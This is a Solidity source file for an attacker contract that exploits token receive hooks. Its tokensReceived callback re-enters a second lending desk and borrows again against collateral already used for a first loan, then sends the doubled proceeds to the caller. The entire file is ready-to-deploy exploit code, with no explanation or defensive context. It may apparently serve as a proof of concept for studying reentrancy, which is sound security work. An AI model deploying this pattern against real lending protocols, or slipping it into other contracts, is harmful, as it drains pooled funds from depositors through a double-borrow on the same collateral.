// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity ^0.8.28;

interface IToken {
    function approve(address spender, uint256 amount) external returns (bool);
    function transfer(address to, uint256 amount) external returns (bool);
    function balanceOf(address who) external view returns (uint256);
}

interface IHooked is IToken {
    function setInterfaceImplementer(address implementer) external;
}

interface IDesk {
    function supply(uint256 amount) external;
    function borrow(uint256 amount) external;
}

/// Borrows hooked tokens and, told of their arrival, borrows again elsewhere on the same collateral.
contract Hooker {
    IHooked private immutable hooked;
    IToken private immutable plain;
    IDesk private immutable first;
    IDesk private immutable second;
    bool private armed;

    constructor(IHooked hooked_, IToken plain_, IDesk first_, IDesk second_) {
        (hooked, plain, first, second) = (hooked_, plain_, first_, second_);
    }

    function start(uint256 stake) external {
        hooked.setInterfaceImplementer(address(this));
        plain.approve(address(second), stake);
        second.supply(stake);
        armed = true;
        first.borrow(stake * 3 / 4);
        plain.transfer(msg.sender, plain.balanceOf(address(this)));
        hooked.setInterfaceImplementer(address(0));
        hooked.transfer(msg.sender, hooked.balanceOf(address(this)));
    }

    function tokensToSend(address, address, address, uint256, bytes calldata, bytes calldata) external {}

    function tokensReceived(address, address, address, uint256 amount, bytes calldata, bytes calldata) external {
        if (!armed) return;
        armed = false;
        second.borrow(amount);
    }
}
